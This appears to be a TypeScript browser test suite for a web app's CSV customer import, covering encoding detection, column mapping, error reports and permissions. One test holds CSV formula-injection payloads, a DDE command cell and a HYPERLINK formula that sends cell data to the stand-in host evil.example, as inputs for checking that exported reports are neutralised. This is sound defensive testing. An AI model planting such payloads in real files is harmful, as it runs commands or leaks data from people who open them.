import { readFile } from 'node:fs/promises';
import iconv from 'iconv-lite';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { CsvTokenizer } from '../src/modules/imports/csv/tokenizer.js';
import { expectNoPageErrors, openTab, screenshot, signIn } from './support/browser.js';
import { addMember, newShop, type Shop, type TestServer } from './support/server.js';
import { browserSuite } from './support/suite.js';

const chromiumPath = inject('chromiumPath');

// What Russian Excel and 1C save as "CSV": Windows-1251, ";" between columns, Russian titles.
// Line 4 has a phone that is no phone, line 5 a day that does not exist (31 February).
const customersCsv = [
  'Телефон;Имя;Фамилия;Почта;Город;Дата рождения',
  '8 (912) 345-67-89;Анна;Ёлкина;anna.yolkina@example.ru;Екатеринбург;14.03.1990',
  '+7 903 111-22-33;Дмитрий;Соколов;sokolov.d@example.ru;Москва;01.02.1985',
  '12345;Мария;Кузнецова;maria.k@example.ru;Санкт-Петербург;05.06.1992',
  '+7 987 654-32-10;Ольга;Волкова;volkova.olga@example.ru;Казань;31.02.1988',
  '+7 950 123-45-67;Сергей;Павлов;pavlov.s@example.ru;Новосибирск;',
  '89051234567;Иван;Новиков;;Самара;21.09.1979',
].join('\r\n');

// What a spreadsheet sees in a downloaded report: its rows of cells (the BOM dropped).
function reportCells(bytes: Buffer): string[][] {
  const tokenizer = new CsvTokenizer(';');
  const tokens = [...tokenizer.push(bytes.toString('utf8').replace(/^\uFEFF/, '')), ...tokenizer.end()];
  return tokens.flatMap((t) => (t.ok ? [t.fields] : []));
}

// Text as shown, cells apart and spaces normalised (Intl puts no-break spaces in numbers); labels
// styled in capitals come out in capitals.
async function shown(page: Page, selector: string): Promise<string> {
  return (await page.locator(selector).first().innerText()).replace(/\s+/g, ' ').trim();
}

async function rowTexts(page: Page, scope: string): Promise<string[]> {
  const texts = await page.locator(`${scope} tbody tr`).allInnerTexts();
  return texts.map((t) => t.replace(/\s+/g, ' ').trim());
}

// The field chosen for a column of the file, as its select shows it.
function fieldOf(page: Page, column: string) {
  return page.getByRole('combobox', { name: `Поле для столбца «${column}»` });
}

async function choose(page: Page, select: string, option: string): Promise<void> {
  await page.getByRole('combobox', { name: select }).click();
  await page.getByRole('option', { name: option, exact: true }).click();
}

// Uploads a file through the API with the workspace's secret key, as an integration would.
async function uploadThroughApi(server: TestServer, shop: Shop, name: string, content: string): Promise<string> {
  const form = new FormData();
  form.set('kind', 'customers');
  form.set('file', new Blob([content], { type: 'text/csv' }), name);
  const res = await fetch(`${server.url}/api/v1/imports`, { method: 'POST', headers: { authorization: `Bearer ${shop.secretKey}` }, body: form });
  const body: unknown = await res.json();
  if (res.status !== 201 || typeof body !== 'object' || body === null || !('id' in body) || typeof body.id !== 'string') {
    throw new Error(`upload failed: ${res.status} ${JSON.stringify(body)}`);
  }
  return body.id;
}

describe.skipIf(!chromiumPath)('web app: imports', () => {
  const suite = browserSuite(chromiumPath);

  it('imports a Windows-1251 file of customers after the column check, and reports the bad rows', async () => {
    const shop = await newShop(suite.server, 'Платья и аксессуары');
    const tab = await openTab(suite.browser, suite.server.url);
    const { page } = tab;
    await signIn(page, shop.owner);
    await page.getByRole('link', { name: 'Импорт', exact: true }).click();
    await page.waitForURL(new RegExp(`/w/${shop.id}/imports$`));
    await page.getByText('Импортов пока не было').waitFor();

    await page.locator('input[type=file]').setInputFiles({ name: 'Клиенты из 1С.csv', mimeType: 'text/csv', buffer: iconv.encode(customersCsv, 'win1251') });
    await page.waitForURL(new RegExp(`/w/${shop.id}/imports/[^/]+$`));
    await page.getByRole('heading', { name: 'Проверьте столбцы' }).waitFor();
    expect(await page.getByRole('combobox', { name: 'Кодировка' }).inputValue()).toBe('Windows-1251');
    expect(await page.getByRole('combobox', { name: 'Разделитель' }).inputValue()).toBe('Точка с запятой ;');
    await page.getByText('Определена автоматически').waitFor();
    await page.getByText('Определён автоматически').waitFor();
    const table = 'table[aria-label="Проверьте столбцы"]';
    expect(await shown(page, `${table} thead tr`)).toBe('Телефон Имя Фамилия Почта Город Дата рождения');
    const rows = await rowTexts(page, table);
    expect(rows).toHaveLength(6);
    expect(rows[0]).toBe('8 (912) 345-67-89 Анна Ёлкина anna.yolkina@example.ru Екатеринбург 14.03.1990');
    expect(rows[3]).toContain('Волкова');
    const guessed = { Телефон: 'Телефон', Имя: 'Имя', Фамилия: 'Фамилия', Почта: 'E-mail', Город: 'Город', 'Дата рождения': 'Дата рождения' };
    for (const [column, field] of Object.entries(guessed)) expect(await fieldOf(page, column).inputValue(), column).toBe(field);
    expect(await page.getByRole('alert').count()).toBe(0);

    // Read as UTF-8 the titles turn to garbage, nothing is recognised and the import cannot start.
    await choose(page, 'Кодировка', 'UTF-8');
    await expect.poll(() => shown(page, `${table} thead tr`)).not.toContain('Телефон');
    await page.getByText('Выбрано вручную (автоматически: Windows-1251)').waitFor();
    await page.getByText('Импорт пока нельзя запустить').waitFor();
    expect(await page.getByRole('alert').textContent()).toContain('Выберите столбец с идентификатором клиента');
    expect(await page.getByRole('button', { name: 'Запустить импорт' }).isDisabled()).toBe(true);
    await choose(page, 'Кодировка', 'Windows-1251');
    await expect.poll(() => fieldOf(page, 'Телефон').inputValue()).toBe('Телефон');
    expect(await page.getByRole('alert').count()).toBe(0);

    // Skipping both identifiers is refused before anything is sent; putting one back allows the start.
    await choose(page, 'Поле для столбца «Телефон»', 'Не загружать');
    await choose(page, 'Поле для столбца «Почта»', 'Не загружать');
    await page.getByText('Импорт пока нельзя запустить').waitFor();
    await choose(page, 'Поле для столбца «Почта»', 'E-mail');
    await choose(page, 'Поле для столбца «Телефон»', 'Телефон');
    await expect.poll(() => page.getByRole('alert').count()).toBe(0);
    await screenshot(page, 'imports-preview');

    await page.getByRole('button', { name: 'Запустить импорт' }).click();
    await page.getByRole('heading', { name: 'Импорт завершён' }).waitFor({ timeout: 20_000 });
    // The labels are in capitals on screen; their text is what a screen reader says.
    const numbers = ((await page.locator('[aria-label="Импорт завершён"] [role=list]').textContent()) ?? '').replace(/\s+/g, ' ');
    expect(numbers).toContain('Строк в файле6');
    expect(numbers).toContain('Загружено4');
    expect(numbers).toContain('Не загружено2');
    const errors = 'section[aria-label="Незагруженные строки"]';
    await expect.poll(() => rowTexts(page, errors)).toEqual([
      expect.stringMatching(/^4 Телефон .+ 12345;Мария;Кузнецова;/),
      expect.stringMatching(/^5 Дата рождения .+ \+7 987 654-32-10;Ольга;Волкова;/),
    ]);
    expect(await page.getByText('Готово', { exact: true }).count()).toBe(1);
    await screenshot(page, 'imports-done');

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Скачать отчёт об ошибках (CSV)' }).click()]);
    expect(download.suggestedFilename()).toBe('Клиенты из 1С-errors.csv');
    // The report is in the interface's language, like the table above.
    const report = reportCells(await readFile(await download.path()));
    expect(report[0]).toEqual(['Строка', 'Столбец', 'Причина', 'Строка в файле']);
    expect(report.slice(1).map((cells) => cells.slice(0, 3))).toEqual([
      ['4', 'Телефон', expect.stringMatching(/^«12345» — не/)],
      ['5', 'Дата рождения', expect.stringMatching(/31\.02\.1988/)],
    ]);
    expect(report.slice(1).map((cells) => cells[2]).join(' ')).not.toMatch(/[a-z]{4}/);

    // The list of imports shows this one as done, with its counts.
    await page.getByRole('link', { name: 'Все импорты' }).click();
    await expect.poll(() => rowTexts(page, 'section[aria-label="Последние импорты"]')).toEqual([
      expect.stringMatching(/^Клиенты из 1С\.csv Клиенты Готово загружено 4, с ошибками 2/i),
    ]);
    await screenshot(page, 'imports-list');

    // The imported people are customers now, found by a phone written another way.
    await page.getByRole('link', { name: 'Клиенты', exact: true }).click();
    await expect.poll(() => page.locator('tbody tr').count()).toBe(4);
    await page.getByRole('textbox', { name: 'Поиск клиентов' }).fill('+7 912 345 67 89');
    await expect.poll(() => rowTexts(page, 'body')).toEqual([expect.stringContaining('Анна Ёлкина')]);
    expect((await rowTexts(page, 'body'))[0]).toContain('Екатеринбург');
    expectNoPageErrors(tab);
    await tab.context.close();
  });

  it('shows the API message when a file cannot be imported as recognised', async () => {
    const shop = await newShop(suite.server, 'Без телефонов');
    const id = await uploadThroughApi(suite.server, shop, 'names.csv', 'Имя;Город\nАнна;Москва\n');
    const tab = await openTab(suite.browser, suite.server.url);
    const { page } = tab;
    await signIn(page, shop.owner);
    await page.goto(`/w/${shop.id}/imports`);
    await page.getByRole('link', { name: 'names.csv' }).click();
    await page.waitForURL(new RegExp(`/imports/${id}$`));
    await page.getByText('Файл загружен, но импорт не запущен').waitFor();
    await page.getByRole('button', { name: 'Запустить с распознанными столбцами' }).click();
    const alert = page.getByRole('alert');
    await alert.waitFor();
    expect(await alert.textContent()).toMatch(/Проверьте данные.*The mapping cannot run.*identifier/);
    expectNoPageErrors(tab);
    await tab.context.close();
  });

  it('lets an analyst see the imports but not upload', async () => {
    const shop = await newShop(suite.server, 'Аналитика');
    await uploadThroughApi(suite.server, shop, 'Клиенты.csv', 'Телефон;Имя\n+79001112233;Анна\n');
    const analyst = await addMember(suite.server, shop, 'analyst');
    const tab = await openTab(suite.browser, suite.server.url);
    const { page } = tab;
    await signIn(page, analyst);
    await page.getByRole('link', { name: 'Импорт', exact: true }).click();
    await expect.poll(() => rowTexts(page, 'section[aria-label="Последние импорты"]')).toEqual([expect.stringMatching(/^Клиенты\.csv Клиенты Не запущен/i)]);
    await page.getByText('Загружать файлы могут владелец, администраторы и маркетологи').waitFor();
    expect(await page.getByRole('button', { name: 'Выберите файл' }).count()).toBe(0);
    expect(await page.locator('input[type=file]').count()).toBe(0);
    expect(await page.getByRole('heading', { name: 'Новый импорт' }).count()).toBe(0);

    await page.getByRole('link', { name: 'Клиенты.csv' }).click();
    await page.getByText('Файл загружен, но импорт не запущен').waitFor();
    expect(await page.getByRole('button', { name: 'Запустить с распознанными столбцами' }).count()).toBe(0);
    expectNoPageErrors(tab);
    await tab.context.close();
  });

  it('downloads a report of hostile cells that opens as text, in Russian', async () => {
    const shop = await newShop(suite.server, 'Формулы');
    const hostile = [
      'Телефон;Имя;Почта',
      "=cmd|' /C calc'!A0;Анна;anna@example.ru",
      '@SUM(1+1);Борис;boris@example.ru',
      '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";Вера;vera@example.ru',
      '+7 912 345-67-89;Глеб;gleb@example.ru',
    ].join('\r\n');
    const tab = await openTab(suite.browser, suite.server.url);
    const { page } = tab;
    await signIn(page, shop.owner);
    await page.goto(`/w/${shop.id}/imports`);
    await page.locator('input[type=file]').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(hostile) });
    await page.getByRole('heading', { name: 'Проверьте столбцы' }).waitFor();
    await page.getByRole('button', { name: 'Запустить импорт' }).click();
    await page.getByRole('heading', { name: 'Импорт завершён' }).waitFor({ timeout: 20_000 });
    // On screen the cells are shown as they were in the file.
    await expect.poll(() => rowTexts(page, 'section[aria-label="Незагруженные строки"]')).toEqual([
      expect.stringContaining("=cmd|' /C calc'!A0;Анна"),
      expect.stringContaining('@SUM(1+1);Борис'),
      expect.stringContaining('"=HYPERLINK('),
    ]);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Скачать отчёт об ошибках (CSV)' }).click()]);
    const report = reportCells(await readFile(await download.path()));
    expect(report).toHaveLength(4);
    for (const cell of report.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(report.slice(1).map((cells) => [cells[2], cells[3]])).toEqual([
      ["«=cmd|' /C calc'!A0» — не номер телефона", "'=cmd|' /C calc'!A0;Анна;anna@example.ru"],
      ['«@SUM(1+1)» — не номер телефона', "'@SUM(1+1);Борис;boris@example.ru"],
      [expect.stringMatching(/^«=HYPERLINK\(.*» — не номер телефона$/), '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";Вера;vera@example.ru'],
    ]);
    expectNoPageErrors(tab);
    await tab.context.close();
  });

  it('cancels an upload that was not started, deleting it', async () => {
    const shop = await newShop(suite.server, 'Отмена');
    const tab = await openTab(suite.browser, suite.server.url);
    const { page } = tab;
    await signIn(page, shop.owner);
    await page.goto(`/w/${shop.id}/imports`);
    await page.locator('input[type=file]').setInputFiles({ name: 'не тот файл.csv', mimeType: 'text/csv', buffer: Buffer.from('Телефон;Имя\n+79001112233;Анна\n') });
    await page.getByRole('heading', { name: 'Проверьте столбцы' }).waitFor();
    await screenshot(page, 'imports-preview-cancel');
    await page.getByRole('button', { name: 'Отменить импорт' }).click();
    await page.waitForURL(new RegExp(`/w/${shop.id}/imports$`));
    await page.getByText('Импортов пока не было').waitFor();

    // A pending import opened later can be cancelled too.
    const id = await uploadThroughApi(suite.server, shop, 'позже.csv', 'Телефон;Имя\n+79001112233;Анна\n');
    await page.goto(`/w/${shop.id}/imports/${id}`);
    await page.getByText('Файл загружен, но импорт не запущен').waitFor();
    await page.getByRole('button', { name: 'Отменить импорт' }).click();
    await page.getByText('Импортов пока не было').waitFor();
    const res = await fetch(`${suite.server.url}/api/v1/imports/${id}`, { headers: { authorization: `Bearer ${shop.secretKey}` } });
    expect(res.status).toBe(404);
    expectNoPageErrors(tab);
    await tab.context.close();
  });
});
